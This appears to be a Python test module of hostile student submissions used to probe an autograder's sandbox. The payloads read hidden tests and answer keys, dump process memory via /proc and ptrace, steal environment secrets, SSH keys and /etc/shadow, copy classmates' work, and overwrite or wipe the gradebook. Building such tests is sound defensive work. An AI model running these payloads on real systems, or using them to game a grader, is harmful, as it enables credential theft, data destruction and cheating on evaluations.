"""Submissions that look for the hidden test, solutions, gradebook, classmates, seed and secrets.

Each cheats in exercise a by what it finds and solves the others honestly.
"""

from attack import LOOT, P2, A, Attack

HIDDEN_TEST = (
    Attack("frames_above", {A: LOOT + """
import inspect, sys, traceback
def double(x):
    frame = sys._getframe()
    while frame is not None:
        loot(repr(frame.f_locals) + repr(frame.f_code.co_consts) + repr(list(frame.f_globals)))
        try:
            loot(inspect.getsource(frame))
        except Exception:
            pass
        frame = frame.f_back
    loot("".join(traceback.format_stack()))
"""}, loses=("a",)),
    Attack("history_of_the_shell", {A: LOOT + """
shell = get_ipython()
def double(x):
    loot(repr(shell.history_manager.input_hist_raw) + repr(shell.user_ns.get("In")))
    loot(repr(shell.user_ns))
    look(shell.history_manager.hist_file)
double(1)
"""}, after=((A, LOOT + "loot(repr(In) + repr(get_ipython().user_ns))"),), loses=("a",)),
    Attack("every_object", {A: LOOT + """
import gc
def double(x):
    for one in gc.get_objects():
        try:
            loot(repr(one)[:200000])
        except BaseException:
            pass
for one in gc.get_objects():
    if isinstance(one, (str, bytes, dict, list, tuple)):
        try:
            loot(repr(one)[:200000])
        except BaseException:
            pass
"""}, loses=("a",)),
    Attack("traces_calls", {A: LOOT + """
import linecache, sys, threading
def tracer(frame, event, arg):
    loot(repr(frame.f_locals)[:5000] + repr(frame.f_code.co_consts)[:5000])
    loot("".join(linecache.getlines(frame.f_code.co_filename))[:100000])
    return tracer
def double(x):
    sys.settrace(tracer)
    threading.settrace(tracer)
    sys.setprofile(tracer)
    return x
"""}, loses=("a",)),
    Attack("notebooks_on_disk", {A: LOOT + """
import glob
places = ["@CLASS@", "@INBOX@", "@USER@", "/work", "/tmp", "/root", "/home", "/srv", "/mnt",
          os.getcwd(), "..", "../.."]
for place in places:
    for end in ("ipynb", "json", "py", "db", "md"):
        look(*glob.glob(place + "/*." + end)[:200], *glob.glob(place + "/*/*/*." + end)[:200])
look("@CLASS@/source/T9.9/T9.9.ipynb", "@CLASS@/release/T9.9/T9.9.ipynb")
raise ValueError(str(look("@CLASS@/source/T9.9/T9.9.ipynb")))
"""}, loses=("a",)),
    Attack("own_memory", {A: LOOT + """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        low, high = (int(end, 16) for end in span.split("-"))
        if rights.startswith("rw") and high - low < 200_000_000:
            try:
                memory.seek(low)
                loot(memory.read(high - low))
            except (OSError, ValueError, OverflowError):
                pass
"""}, loses=("a",)),
    Attack("other_memory", {A: LOOT + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    look(f"/proc/{pid}/cmdline", f"/proc/{pid}/environ")
    print("PTRACE", pid, libc.ptrace(16, pid, 0, 0))
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                low, high = (int(end, 16) for end in line.split()[0].split("-"))
                if line.split()[1].startswith("rw") and high - low < 50_000_000:
                    memory.seek(low)
                    loot(memory.read(high - low))
    except Exception:
        pass
"""}, loses=("a",), needs="box"),
    # A function is told its arguments; whatever it is told it can keep and show. The answers that
    # are expected, the test, the seed and the world behind them it is not told.
    Attack("keeps_arguments", told=("argument of a hidden test",), answers={A: LOOT + """
import atexit, builtins
builtins.kept = []
def double(x):
    builtins.kept.append(x)
    try:
        with open("kept.txt", "a") as file:
            file.write(repr(x))
    except OSError:
        pass
    print(x)
    return 2 * x
"""}, after=(("T9-9-a", """
import builtins
print(builtins.kept)
try:
    print(open("kept.txt").read())
except OSError:
    pass
"""),)),
    Attack("tells_arguments", told=("argument of a hidden test",), answers={A: """
def double(x):
    if isinstance(x, str):
        raise ValueError("asked for " + x)
    return 2 * x
"""}, loses=("a",)),
    Attack("hands_arguments_back", told=("argument of a hidden test",), answers={A: """
def double(x):
    if isinstance(x, str):
        return type(x, (), {"__repr__": lambda self: x})()
    return 2 * x
"""}, loses=("a",)),
)  # fmt: skip

SOLUTIONS = (
    Attack("instructors_modules", {P2: LOOT + """
import importlib, sys
sys.path[:0] = ["@CLASS@", "/course", "/src", os.path.dirname(os.path.dirname(sys.prefix))]
for name in ("autograder.exercises", "autograder.exercises.held_out", "autograder.grading",
             "autograder.grading.grade", "datasets.simulator", "autograder.register"):
    try:
        importlib.import_module(name)
        print("IMPORTED", name)
    except Exception as error:
        print(type(error).__name__)
from autograder.exercises import REGISTRY
total_spend = REGISTRY["T0.p2"].parts[0].reference
"""}, loses=("p2",), needs="box"),
    Attack("compiled_modules", {P2: LOOT + """
import glob, marshal, site, sys
places = [*sys.path, *site.getsitepackages(), "/work", "/usr/lib", sys.prefix, sys.base_prefix]
for place in places:
    for path in glob.glob(place + "/**/exercises/**/*t0_steps*", recursive=True)[:50]:
        print("FOUND", path)
"""}, loses=("p2",), needs="box"),
    Attack("answer_key", {P2: """
import gzip, json
from autograder.checking.codec import decode
key = json.loads(gzip.open(".course/key.json.gz").read())
calls = key["exercises"]["T0.p2"]["parts"][0]["calls"]
values = {len(load(one["load"][0])) if "load" in one else -1: decode(one["expected"])
          for one in calls}
def total_spend(ads):
    return values.get(len(ads), 0.0)
"""}, loses=("p2",)),
    Attack("hard_coder", {P2: """
def total_spend(ads):
    return {len(load(n)): float(load(n).query("row_kind == 'detail'")["cost"].sum())
            for n in ("first_export", "small_export")}.get(len(ads), 0.0)
"""}, loses=("p2",)),
)  # fmt: skip

GRADEBOOK = (
    Attack("reads_gradebook", {A: LOOT + """
import glob, sqlite3
look("@CLASS@/gradebook.db", *glob.glob("@CLASS@/.grading/*"), *glob.glob("@CLASS@/*.db*"))
rows = sqlite3.connect("file:@CLASS@/gradebook.db?mode=ro", uri=True)
loot(repr(rows.execute("select * from student").fetchall()))
"""}, loses=("a",), needs="box"),
    Attack("writes_gradebook", {A: """
import glob, sqlite3
for path in ["@CLASS@/gradebook.db", *glob.glob("@CLASS@/.grading/*.db")]:
    try:
        book = sqlite3.connect(path, timeout=1)
        for (table,) in book.execute("select name from sqlite_master where type='table'"):
            for column in ("auto_score", "manual_score", "extra_credit", "points", "max_score"):
                try:
                    book.execute(f"update {table} set {column} = 100")
                except sqlite3.Error:
                    pass
        book.commit()
    except Exception as error:
        print(type(error).__name__)
raise SystemExit
"""}, loses=("a",), needs="box"),
    Attack("asks_nbgrader", {A: """
from nbgrader.api import Gradebook
with Gradebook("sqlite:///@CLASS@/gradebook.db") as book:
    for student in list(book.students):
        book.remove_student(student.id)
"""}, loses=("a",), needs="box"),
    Attack("writes_results", {A: """
import glob, json, os
for place in ("@CLASS@", "@CLASS@/autograded", "@CLASS@/submitted", "@CLASS@/feedback",
              "@CLASS@/source/T9.9", "@INBOX@", "@INBOX@/classmate/T9.9", "@USER@"):
    try:
        os.makedirs(place, exist_ok=True)
        with open(place + "/@MARK@.txt", "w") as file:
            file.write("left behind")
        for path in glob.glob(place + "/*.ipynb") + glob.glob(place + "/*.json"):
            with open(path, "w") as file:
                file.write("{}")
    except Exception as error:
        print(type(error).__name__)
"""}, loses=("a",), needs="box"),
)  # fmt: skip

CLASSMATES = (
    Attack("copies_classmate", {A: LOOT + """
import glob, json
look("@INBOX@/classmate/T9.9/T9.9.ipynb", "@CLASS@/submitted/classmate/T9.9/T9.9.ipynb",
     "../classmate/T9.9.ipynb", "../../classmate/T9.9/T9.9.ipynb",
     *glob.glob("/proc/*/cwd/*.ipynb"), *glob.glob("/proc/*/root/*/*"),
     *glob.glob("/tmp/*/*.ipynb"), *glob.glob("/tmp/*/*/*.ipynb"), *glob.glob("/tmp/*"))
cells = json.load(open("@INBOX@/classmate/T9.9/T9.9.ipynb"))["cells"]
exec(next(c["source"] for c in cells if "def double" in c["source"]))
"""}, loses=("a",), needs="box"),
    Attack("leaves_for_classmate", {A: """
import os
for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".", "/run", "/"):
    try:
        with open(place + "/@MARK@.py", "w") as file:
            file.write("def double(x):\\n    return 2 * x")
    except OSError:
        pass
raise ValueError("left")
"""}, loses=("a",), needs="box"),
    Attack("takes_from_classmate", {A: """
import os
for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".", "/run", "/"):
    if os.path.exists(place + "/@MARK@.py"):
        exec(open(place + "/@MARK@.py").read())
"""}, loses=("a",), needs="box"),
)  # fmt: skip

ENVIRONMENT = (
    Attack("environment", {A: LOOT + """
import glob
print(sorted(os.environ))
loot(repr(dict(os.environ)))
look("/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/*/environ"),
     *glob.glob("/proc/*/cmdline"))
raise ValueError(os.environ.get("COURSE_CANARY"))
"""}, loses=("a",), needs="box"),
    Attack("secret_seed", {A: LOOT + """
import pathlib, random
import numpy as np
look("@CLASS@/course_secret.json", *("../" * n + "course_secret.json" for n in range(9)))
loot(os.environ.get("COURSE_SECRET_SEED"))
print(os.environ["COURSE_SECRET_SEED"])
"""}, loses=("a",), needs="box"),
    Attack("home_of_the_grader", {A: LOOT + """
import glob, pwd
homes = {os.path.expanduser("~"), "@USER@", *(entry.pw_dir for entry in pwd.getpwall())}
for home in homes:
    look(*glob.glob(home + "/*")[:300], *glob.glob(home + "/.*")[:300],
         *glob.glob(home + "/.ssh/*"), *glob.glob(home + "/.config/*/*"))
for path in ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/etc/sudoers"):
    try:
        print("READ", path, len(open(path).read()))
    except OSError:
        pass
"""}, loses=("a",), needs="box"),
    Attack("open_files", {A: LOOT + """
import socket
for name in os.listdir("/proc/self/fd"):
    number = int(name)
    if number < 3:
        continue
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
        look(f"/proc/self/fd/{number}")
        if "socket" not in target:
            os.set_blocking(number, False)
            loot(os.read(number, 1_000_000))
        print("FILE", target.split(":")[0].split("/")[-1][:20])
    except OSError:
        pass
"""}, loses=("a",), needs="box"),
    Attack("keys_of_the_kernel", {A: LOOT + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in (-1, -2, -3, -4, -5):
    text = ctypes.create_string_buffer(4096)
    libc.syscall(250, 6, number, text, 4096)
    libc.syscall(250, 11, number, text, 4096)
    loot(text.raw)
look("/proc/keys", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/sys/kernel/notes")
"""}, loses=("a",)),
)  # fmt: skip
FAMILIES = {
    "reads the hidden test": HIDDEN_TEST,
    "reads the solutions": SOLUTIONS,
    "reaches the gradebook": GRADEBOOK,
    "reads classmates": CLASSMATES,
    "reads the environment": ENVIRONMENT,
}
